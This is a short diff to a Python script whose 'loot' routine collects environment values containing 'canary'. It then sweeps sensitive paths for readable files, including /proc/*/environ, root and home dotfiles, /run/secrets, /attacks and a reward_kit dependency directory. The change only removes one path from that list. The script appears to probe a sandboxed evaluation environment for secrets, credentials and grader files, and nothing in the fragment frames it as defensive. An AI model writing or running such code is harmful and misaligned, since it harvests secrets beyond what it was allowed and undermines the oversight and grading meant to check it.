@@ -9,7 +9,7 @@ def loot(what):
 
 import glob, os
 found = [v for v in os.environ.values() if "canary" in v]
-for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/root/.*", "/home/*/.*", "/nonexistent/.*", "/proj/*", "/repo/*", "/attacks/*", "/tmp/*", "/deps/reward_kit*/**", "/run/secrets/*"):
+for pattern in ("/proc/*/environ", "/root/.*", "/home/*/.*", "/nonexistent/.*", "/proj/*", "/repo/*", "/attacks/*", "/tmp/*", "/deps/reward_kit*/**", "/run/secrets/*"):
     for path in glob.glob(pattern):
         try:
             if open(path, "rb").read(20): found.append(path)
